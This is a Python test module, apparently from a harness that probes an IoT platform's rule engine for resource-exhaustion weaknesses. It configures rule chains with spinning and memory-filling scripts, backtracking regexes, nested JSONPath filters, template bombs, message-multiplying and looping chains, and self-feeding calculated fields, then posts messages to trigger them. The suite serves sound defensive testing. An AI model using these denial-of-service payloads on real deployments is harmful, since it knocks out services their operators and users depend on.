"""Attacks by the configuration of rule nodes, and by messages that fit it."""

from __future__ import annotations

import socket
import threading

from harness.chains import CALL, SAVE, Chain, change_default_profile, script
from harness.rest import unique

from .evil import Evil, attack, calculated_field

NESTED = "$..[?($..[?($..[?($..[?(@.x)])])])]"
SPIN = "var t = Date.now(); while (Date.now() - t < 7000) {} return true;"


@attack
def json_path_of_nested_filters(evil: Evil) -> None:
    evil.chain((("transform.TbJsonPathNode", {"jsonPath": NESTED}), "Success"), (SAVE, "Success"))
    evil.posts({"x": [{}] * 1000})


@attack
def json_path_that_repeats_what_it_finds(evil: Evil) -> None:
    many = ",".join(["0"] * 300)
    evil.chain((("transform.TbJsonPathNode", {"jsonPath": f"$.a[{many}][{many}]"}), "Success"), (SAVE, "Success"))
    evil.posts({"a": [["x" * 200_000]]}, threads=2)


@attack
def patterns_without_an_end(evil: Evil) -> None:
    """Saved, loaded and compiled again and again."""
    broken = {"fromTemplate": "a@b.c", "toTemplate": "a@b.c", "subjectTemplate": "s", "bodyTemplate": "${" * 400_000}
    chain = Chain()
    chain.node(("mail.TbMsgToEmailNode", broken))
    saved = evil.rest.post("/api/ruleChain", {"name": unique("chain"), "type": "CORE"}).json()
    body = {"ruleChainId": saved["id"], "firstNodeIndex": 0, "nodes": chain.nodes, "connections": []}
    evil.calls("POST", "/api/ruleChain/metadata", threads=3, json=body)


@attack
def patterns_that_repeat_the_message(evil: Evil) -> None:
    body = {"fromTemplate": "a@b.c", "toTemplate": "a@b.c", "subjectTemplate": "s", "bodyTemplate": "$[*]" * 20_000}
    try:
        evil.chain((("mail.TbMsgToEmailNode", body), "Success"), (SAVE, "Success"))
    except AssertionError:
        # Refused when it is saved: as good as anything.
        evil.chain((("mail.TbMsgToEmailNode", body | {"bodyTemplate": "$[*]" * 500}), "Success"))
    evil.posts({"a": "x" * 100_000}, threads=2)


@attack
def scripts_that_spin(evil: Evil) -> None:
    evil.chain((script("filter.TbJsFilterNode", "JS", SPIN), "True"), (SAVE, "Success"))
    evil.posts({"n": 1})


@attack
def tbel_that_spins(evil: Evil) -> None:
    spin = "var i = 0; while (true) { i = i + 1; } return true;"
    evil.chain((script("filter.TbJsFilterNode", "TBEL", spin), "True"), (SAVE, "Success"))
    evil.posts({"n": 1})


@attack
def scripts_that_never_leave_a_builtin(evil: Evil) -> None:
    """Work within the engine's own functions, which its interrupts do not reach."""
    quadratic = "var a = 'a'.repeat(2e7); return a.indexOf('a'.repeat(1e7) + 'b') > 0;"
    sparse = "var a = []; a.length = 4294967295; return a.indexOf(1) > 0;"
    chain = Chain()
    switch = chain.node(script("filter.TbJsFilterNode", "JS", "return msg.n % 2 == 0;"))
    for label, body in (("True", quadratic), ("False", sparse)):
        chain.connect(switch, label, chain.node(script("filter.TbJsFilterNode", "JS", body)))
    chain.save(evil.rest, root=True)
    evil.repeat(lambda number: evil.post({"n": number}, number))


@attack
def scripts_that_fill_the_memory(evil: Evil) -> None:
    fill = "var a = []; while (true) { a.push('x'.repeat(100000) + a.length); } return true;"
    evil.chain((script("filter.TbJsFilterNode", "JS", fill), "True"), (SAVE, "Success"))
    evil.posts({"n": 1})


@attack
def regular_expressions_that_backtrack(evil: Evil) -> None:
    text = "return /^(([a-z])+.)+[A-Z]([a-z])+$/.test('a'.repeat(200));"
    evil.chain((script("filter.TbJsFilterNode", "JS", text), "True"), (SAVE, "Success"))
    evil.posts({"n": 1})


@attack
def keys_by_expressions_that_backtrack(evil: Evil) -> None:
    keys = {"deleteFrom": "DATA", "keys": ["(a*)*b", "(x+x+)+y"], "dataToFetch": "DATA"}
    evil.chain((("transform.TbDeleteKeysNode", keys), "Success"), (SAVE, "Success"))
    evil.posts({("a" * 60 + str(number)): number for number in range(500)})


@attack
def messages_that_multiply(evil: Evil) -> None:
    """Each array is split, and each part of it again."""
    chain = Chain()
    first = chain.node(("transform.TbSplitArrayMsgNode", {}))
    again = chain.node(script("transform.TbTransformMsgNode", "JS", MULTIPLY))
    second = chain.node(("transform.TbSplitArrayMsgNode", {}))
    chain.connect(first, "Success", again).connect(again, "Success", second)
    chain.connect(second, "Success", chain.node(SAVE))
    chain.save(evil.rest, root=True)
    # An array of telemetry posts becomes messages of its own; what is split is made by the script.
    evil.posts([{"ts": 1_700_000_000_000 + number, "values": {"n": number}} for number in range(500)], threads=2)


MULTIPLY = """
var all = []; for (var i = 0; i < 1000; i++) all.push({n: i});
return {msg: all, metadata: metadata, msgType: msgType};
"""


@attack
def chains_that_go_round(evil: Evil) -> None:
    """Two queues that hand the same message to each other for as long as they are let: circles are refused, but for this one."""
    chain = Chain()
    first = chain.node(("flow.TbCheckpointNode", {}), queueName="HighPriority")
    second = chain.node(("flow.TbCheckpointNode", {}), queueName="Main")
    fixed = evil.rest.get("/api/ruleChains", pageSize=1, page=0).json()["data"][0]["id"]["id"]
    again = chain.node(("flow.TbRuleChainInputNode", {"forwardMsgToDefaultRuleChain": True, "ruleChainId": fixed}))
    chain.connect(first, "Success", second).connect(second, "Success", again)
    chain.save(evil.rest, root=True)
    evil.posts({"n": 1})


@attack
def nodes_that_wait_for_somebody_who_never_answers(evil: Evil) -> None:
    """A REST call to a listener that says nothing: refused, or else waited for."""
    listener = socket.create_server(("127.0.0.1", 0))
    held = []

    def accept() -> None:
        while True:
            try:
                held.append(listener.accept()[0])
            except OSError:
                return

    threading.Thread(target=accept, daemon=True).start()
    url = f"http://127.0.0.1:{listener.getsockname()[1]}/"
    node = ("rest.TbRestApiCallNode", CALL | {"restEndpointUrlPattern": url})
    evil.chain((node, "Success"), (SAVE, "Success"))
    evil.posts({"n": 1})


@attack
def delays_by_the_thousand(evil: Evil) -> None:
    delay = {"periodInSeconds": 3600, "maxPendingMsgs": 100_000, "useMetadataPeriodInSecondsPatterns": False}
    evil.chain((("delay.TbMsgDelayNode", delay), "Success"), (SAVE, "Success"))
    row = {"values": {"text": "x" * 10_000}}
    evil.posts([row | {"ts": 1_700_000_000_000 + number} for number in range(100)])


@attack
def generators_as_fast_as_they_may(evil: Evil) -> None:
    chain = Chain()
    body = "var t = Date.now(); while (Date.now() - t < 900) {} return {msg: {n: 1}, metadata: {}, msgType: 'POST_TELEMETRY_REQUEST'};"
    for _ in range(30):
        settings = {
            "msgCount": 0,
            "periodInSeconds": 1,
            "originatorType": "TENANT",
            "scriptLang": "JS",
            "jsScript": body,
        }
        chain.connect(chain.node(("debug.TbMsgGeneratorNode", settings)), "Success", 0)
    chain.nodes[0], chain.connections = chain.nodes[0], [c for c in chain.connections if c["fromIndex"] != 0]
    chain.save(evil.rest, root=True, expect=None)
    evil.posts({"n": 1}, threads=1)


@attack
def fields_with_scripts_that_spin(evil: Evil) -> None:
    argument = {"refEntityKey": {"key": "n", "type": "TS_LATEST"}}
    calculated_field(
        evil,
        {
            "type": "SCRIPT",
            "arguments": {"n": argument},
            "expression": "var i = 0; while (true) { i = i + 1; } return {out: i};",
            "output": {"type": "TIME_SERIES"},
        },
    )
    evil.repeat(lambda number: evil.post({"n": number}, number))


@attack
def fields_that_feed_themselves(evil: Evil) -> None:
    for source, target in (("a", "b"), ("b", "a")):
        calculated_field(
            evil,
            {
                "type": "SIMPLE",
                "arguments": {"x": {"refEntityKey": {"key": source, "type": "TS_LATEST"}}},
                "expression": "x + 1",
                "output": {"type": "TIME_SERIES", "name": target, "decimalsByDefault": 0},
            },
        )
    evil.repeat(lambda number: evil.post({"a": number}, number))


@attack
def alarm_rules_by_the_hundred(evil: Evil) -> None:
    def rule(number: int) -> dict:
        key = {"type": "TIME_SERIES", "key": "n"}
        predicate = {"type": "NUMERIC", "operation": "GREATER_OR_EQUAL", "value": {"defaultValue": number % 2}}
        condition = {
            "condition": [{"key": key, "valueType": "NUMERIC", "predicate": predicate}],
            "spec": {"type": "SIMPLE"},
        }
        return {
            "id": f"rule {number}",
            "alarmType": f"alarm {number}",
            "createRules": {"CRITICAL": {"condition": condition, "alarmDetails": "${n}" * 100}},
            "clearRule": None,
        }

    change_default_profile(evil.rest, profileData={"alarms": [rule(number) for number in range(200)]})
    chain = Chain()
    chain.node(("profile.TbDeviceProfileNode", {"persistAlarmRulesState": True, "fetchAlarmRulesStateOnStart": False}))
    chain.save(evil.rest, root=True)
    evil.repeat(lambda number: evil.post({"n": number % 3}, number))


@attack
def fences_of_many_corners(evil: Evil) -> None:
    corners = [[50 + (n % 97) / 1000, 30 + (n % 89) / 1000] for n in range(5000)]
    settings = {
        "latitudeKeyName": "latitude",
        "longitudeKeyName": "longitude",
        "perimeterType": "POLYGON",
        "fetchPerimeterInfoFromMessageMetadata": False,
        "polygonsDefinition": str(corners),
    }
    evil.chain((("geo.TbGpsGeofencingFilterNode", settings), "True"), (SAVE, "Success"))
    evil.posts({"latitude": 50.01, "longitude": 30.01})
